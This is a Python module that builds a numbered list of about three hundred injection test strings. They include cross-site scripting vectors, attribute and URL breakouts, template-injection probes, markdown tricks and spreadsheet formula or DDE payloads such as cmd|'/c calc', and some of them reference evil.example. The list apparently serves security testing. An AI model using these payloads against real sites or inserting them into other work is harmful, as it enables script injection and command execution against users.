"""Three hundred texts that try to run something, made by rule.

Each calls ``xss`` with its number, so that a browser can tell which ran, and a page that it came
through. They are for every place where words of a stranger end: text, attributes, addresses, style
sheets, scripts, templates, spreadsheets.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count

__all__ = ["PAYLOADS", "PRODUCT"]

#: What a template engine would make of ``{{ 1337 * 1009 }}``.
PRODUCT = "1349033"

_ENDS = ("", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
         "</noscript>", "</svg>", "</a>", '\\">')  # fmt: skip
_VECTORS = (
    "<script>xss(N)</script>",
    "<img src=x onerror=xss(N)>",
    "<svg onload=xss(N)>",
    "<iframe srcdoc='<script>parent.xss(N)</script>'></iframe>",
    "<details open ontoggle=xss(N)><summary>s</summary></details>",
    "<input autofocus onfocus=xss(N)>",
    "<a href=javascript:xss(N)>link</a>",
    "<style onload=xss(N)></style>",
    "<video><source onerror=xss(N)></video>",
    "<form action=javascript:xss(N)><button>go</button></form>",
)
_ATTRIBUTES = ("onmouseover", "onfocus", "onclick", "onload", "onanimationstart", "onpointerenter")
_QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#34;")
_ADDRESSES = (
    "javascript:xss(N)",
    "JaVaScRiPt:xss(N)",
    " javascript:xss(N)",
    "java\tscript:xss(N)",
    "javascript&colon;xss(N)",
    "&#106;avascript:xss(N)",
    "javascript://%0axss(N)",
    "data:text/html,<script>parent.xss(N)</script>",
    "data:image/svg+xml,<svg onload=xss(N)>",
    "vbscript:xss(N)",
    "//evil.example/?xss(N)",
    "https://evil.example/'onmouseover='xss(N)",
)
_ODD = (
    "<ScRiPt >xss(N)</ScRiPt >",
    "<script\f>xss(N)</script>",
    "<script/x>xss(N)</script>",
    "<scr<script>ipt>xss(N)</script>",
    "<script src=//evil.example/?xss(N)></script>",
    "<<script>xss(N)//<</script>",
    "<img src='x'onerror='xss(N)'>",
    "<img/src=`x`onerror=xss(N)>",
    "<svg><script>xss(N)</script></svg>",
    "<svg><a xlink:href=javascript:xss(N)><text>x</text></a></svg>",
    "<svg><animate onbegin=xss(N) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:xss(N)>",
    "<svg><use href='data:image/svg+xml,<svg onload=xss(N)>'/></svg>",
    "<svg><foreignObject><img src=x onerror=xss(N)></foreignObject></svg>",
    "<math><mtext><img src=x onerror=xss(N)></mtext></math>",
    "<math href=javascript:xss(N)>x</math>",
    "<template><img src=x onerror=xss(N)></template>",
    "<object data=javascript:xss(N)></object>",
    "<embed src=javascript:xss(N)>",
    "<base href=javascript:xss(N)//>",
    "<link rel=stylesheet href=javascript:xss(N)>",
    "<link rel=import href=//evil.example/xss(N)>",
    "<meta http-equiv=refresh content='0;url=javascript:xss(N)'>",
    "<button formaction=javascript:xss(N)>x</button>",
    "<body onload=xss(N)>",
    "<marquee onstart=xss(N)>x</marquee>",
    "<audio src=x onerror=xss(N)>",
    "<select autofocus onfocus=xss(N)></select>",
    "<textarea autofocus onfocus=xss(N)></textarea>",
    "<iframe src=javascript:xss(N)></iframe>",
    "<table background=javascript:xss(N)><tr><td>x</table>",
    "<div style='background:url(javascript:xss(N))'>x</div>",
    "<div style='width:expression(xss(N))'>x</div>",
    "<style>@import 'javascript:xss(N)';</style>",
    "<style>*{background:url('javascript:xss(N)')}</style>",
    "<xmp><img src=x onerror=xss(N)></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=xss(N)>'>",
    "<!--<img src='--><img src=x onerror=xss(N)>'>",
    "<![CDATA[<img src=x onerror=xss(N)>]]>",
    "<?xml version='1.0'?><script>xss(N)</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>xss(N)</script>'>]>&e;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(N)</x:script>",
    "<p onclick\n=\nxss(N)>x</p>",
    "<img src=x onerror\t=xss(N)>",
    "<portal src=javascript:xss(N)>",
    "<dialog open onclose=xss(N)>x</dialog>",
)
_ENTITIES = (
    "&lt;script&gt;xss(N)&lt;/script&gt;",
    "&#60;script&#62;xss(N)&#60;/script&#62;",
    "&#x3c;img src=x onerror=xss(N)&#x3e;",
    "&amp;lt;script&amp;gt;xss(N)",
    "%3Cscript%3Exss(N)%3C/script%3E",
    "+ADw-script+AD4-xss(N)+ADw-/script+AD4-",
    "＜script＞xss(N)＜/script＞",
    "\\u003cscript\\u003exss(N)",
    "\\x3cscript\\x3exss(N)",
)
_SCRIPTS = (
    "';xss(N)//",
    '";xss(N)//',
    "`;xss(N)//",
    "\\';xss(N)//",
    "*/xss(N)/*",
    "${xss(N)}",
    "</script><script>xss(N)//",
    "\u2028xss(N)",
    "}xss(N);{",
    "}</style><script>xss(N)</script>",
    "};*{background:url(javascript:xss(N))}",
    "\\</style>xss(N)",
)
_TEMPLATES = (
    "{{ 1337 * 1009 }} xss(N)",
    "{% print(1337 * 1009) %} xss(N)",
    "{{ ''.__class__.__mro__ }} xss(N)",
    "{{ config }}{{ self }} xss(N)",
    "${1337*1009} xss(N)",
    "#{1337*1009} xss(N)",
    "<%= 1337*1009 %> xss(N)",
    "{{constructor.constructor('xss(N)')()}}",
    "{# xss(N) #}",
    "{{ cycler.__init__.__globals__ }} xss(N)",
    "%(xss(N))s",
    "{0.__class__} xss(N)",
)
_MARKDOWN = (
    "[x](javascript:xss(N))",
    "![x](javascript:xss(N))",
    "[x]: javascript:xss(N)",
    "<javascript:xss(N)>",
    "[x](data:text/html,xss(N))",
    "[<img src=x onerror=xss(N)>](#)",
    '![" onerror="xss(N)](x)',
    "```\n</code><script>xss(N)</script>\n```",
)
_FORMULAS = (
    "=HYPERLINK(\"//evil.example/?xss(N)\")",
    "=cmd|'/c calc'!A0 xss(N)",
    "+cmd|'/c calc'!A0 xss(N)",
    "-2+3+cmd|'/c calc'!A0 xss(N)",
    "@SUM(1+1)*cmd|'/c calc'!A0 xss(N)",
    "\t=1+1 xss(N)",
    "\r=1+1 xss(N)",
    " =1+1 xss(N)",
    "\n=1+1 xss(N)",
    "=IMPORTXML(\"//evil.example\",\"//a\") xss(N)",
    "=DDE(\"cmd\";\"/c calc\";\"xss(N)\")",
    "＝1+1 xss(N)",
)  # fmt: skip


def _all() -> Iterator[str]:
    yield from (end + vector for vector in _VECTORS for end in _ENDS)
    for quote in _QUOTES:
        yield from (f"{quote} {name}=xss(N) x={quote}" for name in _ATTRIBUTES)
    yield from _ADDRESSES
    yield from (f"<a href='{address}'>x</a>" for address in _ADDRESSES)
    yield from (f"<img src='{address}'>" for address in _ADDRESSES[:8])
    for group in (_ODD, _ENTITIES, _SCRIPTS, _TEMPLATES, _MARKDOWN, _FORMULAS):
        yield from group


PAYLOADS = tuple(text.replace("xss(N)", f"xss({number})") for number, text in zip(count(), _all()))
